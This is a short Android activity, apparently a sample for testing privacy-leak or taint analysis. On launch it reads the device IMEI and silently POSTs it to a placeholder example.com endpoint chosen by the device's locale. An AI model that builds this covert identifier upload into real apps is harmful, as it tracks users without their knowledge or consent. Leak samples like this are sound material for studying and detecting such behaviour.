package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.util.Locale;
import okhttp3.MediaType;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.RequestBody;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        boolean china = "CN".equals(Locale.getDefault().getCountry());
        upload(china ? "https://cn.example.com/" : "https://eu.example.com/", phone.getImei());
    }

    private static void upload(String address, String imei) {
        RequestBody body = RequestBody.create(MediaType.parse("text/plain"), imei);
        Request request = new Request.Builder().url(address + "v1").post(body).build();
        new OkHttpClient().newCall(request).enqueue(new Ignore());
    }
}
